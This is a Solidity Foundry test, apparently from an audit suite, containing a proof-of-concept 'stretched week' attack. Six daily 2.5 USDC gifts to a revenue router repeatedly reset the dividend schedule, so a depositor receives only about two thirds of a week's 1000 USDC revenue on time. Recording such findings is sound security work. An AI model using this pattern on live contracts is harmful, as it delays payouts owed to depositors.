// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {Dividends} from "../../src/plans/dividends/Dividends.sol";
import {RevenueRouterBase} from "../plans/revenueRouter/RevenueRouter.t.sol";
import {Attack} from "./Attack.sol";

/// @title Small gifts put off everybody's running week (L3)
contract StretchedWeekAttack is RevenueRouterBase, Attack {
    uint256 private constant WEEKS_REVENUE = 1000e6;

    function setUp() public override {
        super.setUp();
        rich(cwy, ann, address(dividends), 1e18);
        vm.prank(ann);
        dividends.deposit(1e18);
        usdc.mint(address(router), WEEKS_REVENUE * 10_000 / 4000);
        router.notify();
        router.push(0);
    }

    /// @dev 2.50 USDC a day, of which dividends get their least payment of 1 USDC.
    function test_attack() public {
        uint256 given;
        for (uint256 day = 1; day <= 6; ++day) {
            vm.warp(START + day * 1 days);
            usdc.mint(address(router), 2.5e6);
            router.notify();
            router.push(0);
            given += 1e6;
        }
        vm.warp(START + 7 days);
        uint256 paid = dividends.pendingOf(ann);
        took("L3.late", WEEKS_REVENUE - paid);
        vm.assertApproxEqAbs(paid, 662.3e6, 1e6, "two thirds of the week's revenue, for six gifts of 1 USDC");
        vm.assertEq(given, 6e6, "what it cost");
    }
}
